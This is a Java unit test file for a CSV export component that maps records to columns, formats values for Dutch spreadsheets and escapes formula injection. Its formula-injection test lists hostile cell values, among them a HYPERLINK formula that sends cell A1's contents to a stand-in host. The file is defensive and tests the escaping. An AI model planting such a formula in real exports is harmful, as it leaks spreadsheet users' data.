package nl.stagepact.application.exchange;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.annotation.JsonUnwrapped;
import java.io.StringWriter;
import java.time.LocalDate;
import java.util.List;
import java.util.Optional;
import nl.stagepact.domain.shared.Crebo;
import nl.stagepact.domain.shared.StudentId;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import tools.jackson.databind.json.JsonMapper;

class CsvColumnsTest {

    record Shown(
            StudentId id,
            Optional<Person> person,
            @JsonUnwrapped Terms terms,
            List<String> themes,
            List<Person> friends,
            boolean blind) {}

    record Person(String name, Optional<LocalDate> birthDate) {}

    record Terms(Crebo crebo, int seats) {}

    private final CsvColumns columns = CsvColumns.of(Shown.class);

    private List<String> row(String json) {
        return columns.row(JsonMapper.shared().readTree(json));
    }

    @Test
    void each_value_has_a_column_named_by_its_path() {
        assertThat(columns.names())
                .containsExactly(
                        "id", "person.name", "person.birthDate", "crebo", "seats", "themes", "friends", "blind");
    }

    @Test
    void what_is_absent_leaves_its_cells_empty() {
        assertThat(row("{\"id\": \"x\"}")).containsExactly("x", "", "", "", "", "", "", "");
    }

    @Test
    void values_are_written_as_dutch_spreadsheets_read_them() {
        assertThat(row("""
                {"id": "x", "person": {"name": "Sam", "birthDate": "2007-02-01"}, "crebo": "25998", "seats": 20.50,
                 "themes": ["zorg", "ict"], "friends": [{"name": "Bo"}], "blind": true}"""))
                .containsExactly(
                        "x", "Sam", "2007-02-01", "25998", "20,5", "zorg | ict", "[{\"name\":\"Bo\"}]", "true");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+31 6 00000000",
                "-2+3",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "\n=1",
                "  =1+1",
                "=HYPERLINK(\"http://x.example?\"&A1)",
                "\uFF1D1+1"
            })
    void no_text_becomes_a_formula(String text) {
        assertThat(Cells.safe(text)).isEqualTo("'" + text);
        assertThat(Cells.plain(Cells.safe(text))).isEqualTo(text);
    }

    @ParameterizedTest
    @ValueSource(strings = {"Sam", "a=b", "'s-Hertogenbosch", "", "2027-02-01", "sam@school.example"})
    void an_ordinary_text_stays_as_it_is(String text) {
        assertThat(Cells.safe(text)).isEqualTo(text);
        assertThat(Cells.plain(text)).isEqualTo(text);
    }

    @Test
    void separators_quotes_and_line_breaks_stay_within_their_cell() {
        var file = new StringWriter();
        try (var csv = CsvLists.writer(file)) {
            csv.writeRecord("a;b", "zei \"ja\"", "twee\nregels", "gewoon");
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
        assertThat(file).hasToString("\"a;b\";\"zei \"\"ja\"\"\";\"twee\nregels\";gewoon\r\n");
    }
}
